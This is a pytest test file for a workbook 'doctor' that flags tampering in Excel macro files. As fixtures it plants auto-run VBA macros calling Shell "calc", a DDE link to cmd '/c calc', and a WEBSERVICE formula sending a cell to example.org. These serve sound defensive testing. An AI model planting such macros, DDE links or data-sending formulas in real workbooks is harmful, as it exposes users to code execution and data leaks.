"""What `doctor` finds in a workbook that the package did not write there: an error each, with what to do."""

from collections.abc import Callable, Mapping
from pathlib import Path

import pytest
from machines import PYTHON, windows
from tampered import MAIN, MICROSOFT, SHEET_RELS, WORKBOOK_RELS, linked, part, project, relationships, with_parts

from scorecard_xl.doctor import Finding, State, examine, warnings
from scorecard_xl.workbook.build import content
from scorecard_xl.workbook.file.book import FileBook
from scorecard_xl.workbook.vba.flavours import WITH_ADDIN, standalone
from scorecard_xl.workbook.vba.reading import fingerprint, read_project
from scorecard_xl.workbook.vba.stubs import own_modules

Parts = Mapping[str, bytes | str]
VBA = "xl/vbaProject.bin"
TEXT = {module.name: module.text for module in own_modules()}


@pytest.fixture(scope="module")
def made() -> bytes:
    return content(macros=standalone("win32", PYTHON))


@pytest.fixture
def book(tmp_path: Path, made: bytes) -> Path:
    path = tmp_path / "Council.xlsm"
    path.write_bytes(made)
    return path


def found(path: Path) -> list[Finding]:
    return [each for each in examine(windows(), path) if each.state is not State.GOOD]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("changed", "says"),
    [
        pytest.param({"Module1": "Sub Auto_Open()\nShell \"calc\"\nEnd Sub\n"}, "The module Module1 (3 lines) is not", id="another module"),
        pytest.param({"ThisWorkbook": "Private Sub Workbook_Open()\nShell \"calc\"\nEnd Sub\n"}, "The module ThisWorkbook (3 lines)", id="code that runs when the workbook opens"),
        pytest.param({"SheetScorecard": "Private Sub Worksheet_Calculate()\nShell \"calc\"\nEnd Sub\n"}, "The module SheetScorecard (3 lines)", id="code of a sheet"),
        pytest.param({"CpsHost": TEXT["CpsHost"].replace("    CpsCheck\n", "").replace("trouble = CpsObstacle()", 'trouble = ""')}, "The module CpsHost", id="our check is taken out"),
        pytest.param({"CpsMacros": TEXT["CpsMacros"].replace("refresh_scorecard", "share_scorecard")}, "The module CpsMacros", id="a button runs another function"),
        pytest.param({"CpsFunctions": TEXT["CpsFunctions"].replace("scorecard_xl.udfs", "evil")}, "The module CpsFunctions", id="formulas come from another module"),
        pytest.param({"xlwings": "Public Function RunPython(command)\nShell \"calc\"\nEnd Function\n"}, "The module xlwings", id="another RunPython"),
    ],
)  # fmt: skip
def test_code_that_no_version_wrote(book: Path, changed: Mapping[str, str], says: str) -> None:
    with_parts(book, {VBA: project(changed)})
    (finding,) = [each for each in found(book) if each.about == "Code of the macros"]
    assert (finding.state, says in finding.said, "do not enable macros" in finding.fix) == (State.UNSAFE, True, True)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("changed"),
    [
        pytest.param({}, id="as it was written"),
        pytest.param({"Module1": "' Nothing yet\nOption Explicit\n\n"}, id="a module without code"),
        pytest.param({"SheetOwn": ""}, id="the module of an officer's own sheet"),
        pytest.param({"CpsMacros": TEXT["CpsMacros"].replace("CpsRun", "CPSRUN").replace("    ", "  ")}, id="Excel's editor wrote letters and spaces its own way"),
        pytest.param({"CpsMacros": TEXT["CpsMacros"].replace("Option Explicit", "' a note\nOption Explicit")}, id="a comment more"),
    ],
)  # fmt: skip
def test_code_that_is_ours(book: Path, changed: Mapping[str, str]) -> None:
    with_parts(book, {VBA: project(changed)})
    assert found(book) == []


@pytest.mark.parametrize("damage", [b"", b"nothing", bytes(4000)], ids=["empty", "no project", "zeros"])
def test_code_that_cannot_be_read_is_not_passed_over(book: Path, damage: bytes) -> None:
    with_parts(book, {VBA: damage})
    (finding,) = [each for each in found(book) if each.about == "Code of the macros"]
    assert (finding.state, finding.said) == (State.UNSAFE, "It cannot be read, so we do not know what they do.")


def test_macros_of_another_file_that_excel_would_open(book: Path) -> None:
    with_parts(book, {VBA: project(refers_to=(("evil", r"C:\Users\Public\evil.xlam"),))})
    (finding,) = found(book)
    assert (finding.state, r"C:\Users\Public\evil.xlam" in finding.said) == (State.UNSAFE, True)


@pytest.mark.slow
def test_the_add_in_of_the_master_copy_is_no_stranger(tmp_path: Path) -> None:
    path = tmp_path / "Scorecard.xlsm"
    path.write_bytes(content(macros=WITH_ADDIN))
    assert [each for each in found(path) if each.state is State.UNSAFE] == []


def test_compiled_code_is_said_not_to_be_compared(book: Path) -> None:
    """Excel writes it when it saves: the head of _VBA_PROJECT then names its version."""
    project_of_excel = part(book, VBA).replace(bytes.fromhex("CC61FFFF0001"), bytes.fromhex("CC61B5000001"))
    with_parts(book, {VBA: project_of_excel})
    (finding,) = [each for each in examine(windows(), book) if each.about == "Code of the macros"]
    assert (finding.state, "is not compared" in finding.said) == (State.GOOD, True)


def _connections(attributes: str) -> str:
    return f'<connections xmlns="{MAIN}"><connection id="1" name="Case system" type="5" {attributes}/></connections>'


def _link(inside: str) -> str:
    names = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
    return f'<externalLink xmlns="{MAIN}" {names}>{inside}</externalLink>'


def _joined(kind: str, name: str, xml: str, target: str = "", rels: str = WORKBOOK_RELS) -> Callable[[Path], Parts]:
    """A part that the workbook (or its first sheet) leads to; `target`: what the part itself leads to, outside."""
    folder, _, file = name.rpartition("/")
    more = {f"{folder}/_rels/{file}.rels": relationships(target, "externalLinkPath")} if target else {}
    return lambda book: {rels: linked(book, rels, kind, f"/{name}"), name: xml} | more


def _away(kind: str, target: str, rels: str = SHEET_RELS) -> Callable[[Path], Parts]:
    return lambda book: {rels: linked(book, rels, kind, target, external=True)}


def _replaced(name: str, old: str, new: str) -> Callable[[Path], Parts]:
    def parts(book: Path) -> Parts:
        before = part(book, name).decode()
        assert old in before
        return {name: before.replace(old, new, 1)}

    return parts


LINK = "xl/externalLinks/externalLink1.xml"
BOOK = '<externalBook r:id="rId1"/>'
CASES = [
    pytest.param(_joined("connections", "xl/connections.xml", _connections('refreshOnLoad="1"')), "the connection Case system when it is opened", State.UNSAFE, id="a connection that refreshes on opening"),
    pytest.param(_joined("connections", "xl/other.xml", _connections('refreshOnLoad="1"')), "the connection Case system", State.UNSAFE, id="the same in a part of another name"),
    pytest.param(_joined("connections", "xl/connections.xml", _connections('interval="5"')), "the connection Case system", State.UNSAFE, id="a connection that refreshes every five minutes"),
    pytest.param(_joined("connections", "xl/connections.xml", _connections("")), "Case system, if you ask for it", State.NOTE, id="a connection that waits to be asked"),
    pytest.param(_joined("queryTable", "xl/queryTables/queryTable1.xml", f'<queryTable xmlns="{MAIN}" name="Cases" connectionId="1" refreshOnLoad="1"/>', rels=SHEET_RELS), "the connection Cases", State.UNSAFE, id="a query table that refreshes on opening"),
    pytest.param(_joined("pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml", f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'), "of a pivot table", State.UNSAFE, id="a pivot table from outside"),
    pytest.param(_joined("pivotCacheDefinition", "xl/pivotCache/pivotCacheDefinition1.xml", f'<pivotCacheDefinition xmlns="{MAIN}" refreshOnLoad="1"><cacheSource type="worksheet"/></pivotCacheDefinition>'), None, State.GOOD, id="a pivot table of this workbook"),
    pytest.param(_joined("externalLink", LINK, _link('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')), "a link to cmd by DDE", State.UNSAFE, id="DDE"),
    pytest.param(_joined("externalLink", LINK, _link('<oleLink progId="Package"/>')), "a link to Package by OLE", State.UNSAFE, id="OLE"),
    pytest.param(_joined("externalLink", LINK, _link(BOOK), r"file:///\\10.1.2.3\share\x.xlsx"), r"\\10.1.2.3", State.UNSAFE, id="another workbook on a server"),
    pytest.param(_joined("externalLink", LINK, _link(BOOK), "file://files/share/x.xlsx"), "file://files/share", State.UNSAFE, id="another workbook on a server, written as on the web"),
    pytest.param(_joined("externalLink", LINK, _link(BOOK), r"\\files\share\x.xlsx"), r"\\files", State.UNSAFE, id="another workbook on a server, by its path"),
    pytest.param(_joined("externalLink", LINK, _link(BOOK), "https://example.org/x.xlsx"), "https://example.org/x.xlsx when it is opened", State.UNSAFE, id="another workbook on the web"),
    pytest.param(_joined("externalLink", LINK, _link(BOOK), "file:///C:/Users/ann/x.xlsx"), "if you ask for it", State.NOTE, id="another workbook on this machine"),
    pytest.param(_joined("externalLink", LINK, _link(BOOK), "Other.xlsx"), "Other.xlsx, if you ask for it", State.NOTE, id="another workbook in the same folder"),
    pytest.param(_away("image", "https://example.org/pixel.png"), "a picture from https://example.org/pixel.png", State.UNSAFE, id="a picture from the web"),
    pytest.param(_away("oleObject", r"file:///\\10.1.2.3\x.doc"), r"It refers to", State.UNSAFE, id="a linked object"),
    pytest.param(_away("hyperlink", "https://example.org/"), None, State.GOOD, id="a link that somebody must click"),
    pytest.param(_joined("oleObject", "xl/embeddings/oleObject1.bin", "x", rels=SHEET_RELS), "an embedded object", State.UNSAFE, id="an embedded program"),
    pytest.param(_joined("control", "xl/activeX/activeX1.xml", "<x/>", rels=SHEET_RELS), "an ActiveX control", State.UNSAFE, id="an ActiveX control"),
    pytest.param(_joined(f"{MICROSOFT}/xlMacrosheet", "xl/macrosheets/sheet1.xml", "<x/>"), "a macro sheet of Excel 4", State.UNSAFE, id="a macro sheet of Excel 4"),
    pytest.param(_replaced("xl/worksheets/sheet1.xml", "</sheetData>", '<row r="900"><c r="A900"><f>_xlfn.WEBSERVICE("https://example.org/"&amp;A1)</f></c></row></sheetData>'), "A formula uses WEBSERVICE", State.UNSAFE, id="a formula that sends a cell away"),
    pytest.param(_replaced("xl/worksheets/sheet1.xml", "</sheetData>", '<row r="900"><c r="A900" t="inlineStr"><is><t>WEBSERVICE(x)</t></is></c></row></sheetData>'), None, State.GOOD, id="a text about it"),
    pytest.param(_replaced("xl/workbook.xml", "<definedNames>", '<definedNames><definedName name="_xlnm.Auto_Open">Scorecard!$A$1</definedName>'), "the name _xlnm.Auto_Open, which starts a macro", State.UNSAFE, id="a name that starts a macro"),
    pytest.param(_replaced("xl/drawings/vmlDrawing1.vml", "[0]!RefreshScorecard", "[0]!Evil"), "the ribbon starts Evil", State.UNSAFE, id="a button that starts another macro"),
    pytest.param(_replaced("xl/drawings/vmlDrawing1.vml", "[0]!RefreshScorecard", "[1]!RefreshScorecard"), "the ribbon starts [1]!RefreshScorecard", State.UNSAFE, id="a button that starts a macro of another file"),
    pytest.param(_replaced("customUI/customUI14.xml", "<ribbon>", '<ribbon startFromScratch="false">'), None, State.GOOD, id="a ribbon that calls nothing else"),
    pytest.param(_replaced("customUI/customUI14.xml", "<customUI ", '<customUI onLoad="Evil" '), "the ribbon starts Evil", State.UNSAFE, id="a ribbon that starts a macro on opening"),
    pytest.param(_replaced("xl/workbook.xml", 'name="Definitions"', 'name="scorecard_xl.py"'), "takes the sheet scorecard_xl.py for Python code", State.UNSAFE, id="a sheet of Python code"),
]  # fmt: skip


@pytest.mark.many
@pytest.mark.parametrize(("parts", "says", "state"), CASES)
def test_what_comes_from_outside(book: Path, parts: Callable[[Path], Parts], says: str | None, state: State) -> None:
    with_parts(book, parts(book))
    findings = found(book)
    if says is None:
        assert findings == []
    else:
        (finding,) = findings
        assert (finding.state, says in finding.said, bool(finding.fix)) == (state, True, True), finding


def test_a_workbook_as_it_is_written_gives_no_warning(book: Path) -> None:
    assert warnings(FileBook.open(book)) == []


def test_a_warning_counts_what_is_unsafe_and_names_the_command(book: Path) -> None:
    with_parts(book, {VBA: project({"Module1": "Sub A()\nEnd Sub\n", "Module2": "Sub B()\nEnd Sub\n"})})
    (said,) = warnings(FileBook.open(book))
    assert said == (
        "Council.xlsm is not only as the package wrote it: The module Module1 (2 lines) is not one that a known version "
        "of the package wrote. (2 such findings) Before anyone opens it in Excel, run `scorecard-xl doctor "
        '"Council.xlsm"` and follow what it says.'
    )


def test_other_readers_agree_on_the_modules(book: Path, tmp_path: Path) -> None:
    from vba_reading import sources

    read = read_project(part(book, VBA)).modules
    theirs = {name.rpartition(".")[0]: fingerprint(code) for name, code in sources(book).items()}
    assert {name: fingerprint(code) for name, code in read.items()} == theirs
